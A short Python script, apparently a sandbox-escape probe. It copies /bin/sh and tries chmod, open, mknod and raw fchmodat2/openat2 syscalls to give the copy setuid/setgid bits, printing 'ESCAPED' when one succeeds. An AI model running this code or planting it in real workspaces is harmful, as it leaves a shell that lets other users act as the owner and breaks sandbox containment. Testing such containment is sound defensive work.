"""Leaves a program that would run as the person who owns the workspace, for any user of the machine."""

import ctypes
import os
import shutil
import stat

library = ctypes.CDLL(None)
shutil.copy("/bin/sh", "shell")
for mode in (0o4755, 0o2755, 0o6777):
    for action in (
        lambda: os.chmod("shell", mode),
        lambda: os.close(os.open(f"new{mode}", os.O_CREAT | os.O_WRONLY, mode)),
        lambda: os.mknod(f"node{mode}", stat.S_IFREG | mode),
    ):
        try:
            action()
        except OSError:
            pass
    library.syscall(452, -100, b"shell", mode, 0)
    library.syscall(437, -100, b"by-openat2", (ctypes.c_uint64 * 3)(0o101, mode, 0), 24)
for name in os.listdir("."):
    if os.path.isfile(name) and os.stat(name).st_mode & 0o6000:
        print("ESCAPED", name)
